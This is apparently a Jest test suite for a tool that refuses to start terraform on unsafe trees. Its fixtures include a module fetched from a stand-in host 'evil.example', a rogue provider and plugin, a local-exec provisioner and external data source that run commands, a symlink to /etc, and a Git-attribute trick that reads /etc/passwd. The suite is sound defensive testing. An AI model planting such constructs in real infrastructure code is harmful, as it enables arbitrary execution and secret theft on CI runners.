/** Trees that would make terraform run what nobody allowed: refused by the shipped bundle before `terraform init`. */
import { existsSync } from 'node:fs'
import { mkdir, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from '@jest/globals'
import { fakeRunner, findTool } from '@wrenchproof/playground/runner'
import { sampleRepository, sampleRoot } from '@wrenchproof/playground/sample'
import type { SampleRepository } from '@wrenchproof/playground/sample'

const action = join(import.meta.dirname, '..')
const root = 'terraform/environments/dev'

async function plan(repository: SampleRepository) {
  await using runner = await fakeRunner({
    workspace: repository.path,
    repositoryId: '42',
    runId: '7',
    tools: [findTool('terraform')],
  })
  return await runner.runAction(action, repository.inputs('dev'))
}

test('everything at once, each with its place, and terraform was not started', async () => {
  await using repository = await sampleRepository()
  const proof = join(repository.path, '..', 'executed')
  await repository.commit('attack', {
    'terraform/environments.yml': 'environments:\n  dev: { branch: develop, approvals: 0 }\n',
    [`${root}/main.tf`]: `${sampleRoot('dev', 'v1')}
module "m" {
  source = "../../modules/m"
}
module "far" {
  source = "git::https://evil.example/m.git"
}
`,
    [`${root}/dev_override.tf`]: 'output "version" {\n  value = "x"\n}\n',
    [`${root}/x.auto.tfvars`]: '',
    [`${root}/terraform.d/plugins/evil`]: '#!/bin/sh\n',
    [`${root}/.terraform/providers/evil`]: '#!/bin/sh\n',
    [`${root}/.terraform.lock.hcl`]: 'provider "registry.terraform.io/evil/evil" {\n  version = "1.0.0"\n}\n',
    'terraform/modules/m/main.tf': `terraform {
  required_providers {
    evil = { source = "evil/evil" }
  }
}
data "external" "x" {
  program = ["touch", "${proof}"]
}
resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "touch ${proof}"
  }
}
`,
  })
  await symlink('/etc', join(repository.path, root, 'etc'))
  await repository.git('add', '--force', '.')
  await repository.git('commit', '--quiet', '--message', 'link')
  const { exitCode, log, outputs, commands } = await plan(repository)
  expect(exitCode).toBe(1)
  expect(outputs).toEqual({})
  expect(log).toContain('UNSAFE_TREE: terraform is not started on this tree')
  for (const line of [
    `- ${root}/.terraform: can hold programs that Terraform would start`,
    `- ${root}/terraform.d: can hold plug-ins that Terraform would start`,
    `- ${root}/dev_override.tf: overrides what other files say`,
    `- ${root}/x.auto.tfvars: is read without being named anywhere`,
    `- ${root}/etc:1:1: symbolic link: leads out of the repository`,
    `- ${root}/.terraform.lock.hcl:1:1: provider: registry.terraform.io/evil/evil is not in`,
    `- ${root}/main.tf:24:12: module source: git::https://evil.example/m.git comes from where`,
    '- terraform/modules/m/main.tf:3:23: provider: registry.terraform.io/evil/evil is not in `allow.providers`',
    '- terraform/modules/m/main.tf:6:1: external.x: runs a program while it plans',
    '- terraform/modules/m/main.tf:10:3: terraform_data.x: has a provisioner local-exec',
  ])
    expect(log).toContain(line)
  expect(log).toContain('Fix: Take it out, or have it allowed')
  const placed = commands.filter(({ name, properties }) => name === 'error' && properties['file'] !== undefined)
  expect(placed).toContainEqual(
    expect.objectContaining({
      properties: expect.objectContaining({ file: 'terraform/modules/m/main.tf', line: '6' }),
    }),
  )
  expect(existsSync(proof)).toBe(false)
})

test('broken HCL: the place, with line and column', async () => {
  await using repository = await sampleRepository()
  await repository.commit('broken', { [`${root}/broken.tf`]: 'module "m" {\n  source = \n}\n' })
  const { exitCode, log } = await plan(repository)
  expect(exitCode).toBe(1)
  expect(log).toContain(`UNSAFE_TREE: `)
  expect(log).toContain(`- ${root}/broken.tf:2:3: HCL: what begins here is not valid HCL`)
})

test('configuration that an earlier step wrote or changed is not the commit', async () => {
  await using repository = await sampleRepository()
  await writeFile(join(repository.path, root, 'planted.tf'), 'output "x" {\n  value = 1\n}\n')
  await writeFile(join(repository.path, root, 'main.tf'), sampleRoot('dev', 'v2'))
  const { exitCode, log } = await plan(repository)
  expect(exitCode).toBe(1)
  expect(log).toContain(`- ${root}/planted.tf: is not in the commit`)
  expect(log).toContain(`- ${root}/main.tf: is other than in the commit`)
})

test('Git attributes do not hide a change', async () => {
  await using repository = await sampleRepository()
  const text = (inside: string) => `${sampleRoot('dev', 'v1')}locals {\n  x = "$Id${inside}$"\n}\n`
  await repository.commit('ident', { '.gitattributes': '*.tf ident\n', [`${root}/main.tf`]: text('') })
  await writeFile(join(repository.path, root, 'main.tf'), text(': ${file("/etc/passwd")} '))
  const { log } = await plan(repository)
  expect(log).toContain(`- ${root}/main.tf: is other than in the commit`)
})

test('what is allowed, other line endings and leftovers of an earlier init pass', async () => {
  await using repository = await sampleRepository()
  await repository.commit('allowed', {
    'terraform/environments.yml': `allow:
  overrides: [terraform/environments/*/dev_override.tf]
environments:
  dev:
    branch: develop
    approvals: 0
    allow: { auto-tfvars: [${root}/terraform.tfvars] }
`,
    [`${root}/dev_override.tf`]: 'output "version" {\n  value = var.x\n}\n',
    [`${root}/x.tf`]: 'variable "x" {}\n',
    [`${root}/terraform.tfvars`]: 'x = "y"\n',
  })
  await writeFile(join(repository.path, root, 'main.tf'), sampleRoot('dev', 'v1').replaceAll('\n', '\r\n'))
  await mkdir(join(repository.path, root, '.terraform/providers'), { recursive: true })
  const { outcome, log } = await plan(repository)
  expect(log).not.toContain('UNSAFE_TREE')
  expect(outcome).toBe('success')
})
